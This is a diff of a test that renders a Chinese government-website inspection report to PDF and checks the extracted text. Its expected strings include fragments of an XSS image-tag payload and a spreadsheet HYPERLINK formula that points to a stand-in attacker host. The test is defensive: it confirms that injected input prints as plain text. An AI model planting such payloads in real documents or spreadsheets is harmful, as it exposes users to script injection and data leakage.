@@ -93,12 +93,13 @@ describe('PDF', () => {
   it('prints the report with its Chinese text and the hostile strings as plain text', async () => {
     const path = join(dir, 'report.pdf');
     writeFileSync(path, await htmlToPdf(html, browser));
-    const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
-    for (const expected of ['示例县人民政府 网站检查报告', '检查结论：不合格：存在 1 项单项否决问题', '问题清单', '疑似错别字“帐号”', '新发现']) {
+    // Reading order (no -layout) keeps a wrapped table cell's lines together; line breaks are dropped.
+    const text = execFileSync('pdftotext', [path, '-'], { encoding: 'utf8' }).replace(/\s+/g, '');
+    for (const expected of ['示例县人民政府网站检查报告', '检查结论：不合格：存在1项单项否决问题', '问题清单', '疑似错别字“帐号”', '新发现']) {
       expect(text).toContain(expected);
     }
-    // Narrow table cells wrap the hostile strings; their pieces must still be there as text.
-    for (const piece of ['疑似错别字：<img src', 'alert(1)>', 'HYPERLINK']) expect(text).toContain(piece);
+    // Neighbouring table cells interleave in the extracted text, so the hostile strings are checked in pieces.
+    for (const piece of ['疑似错别字：<imgsrc=x', '=HYPERLINK("http://evil.example/?x', '点我']) expect(text).toContain(piece);
     expect(text).not.toContain('\uFFFD');
   });
 });
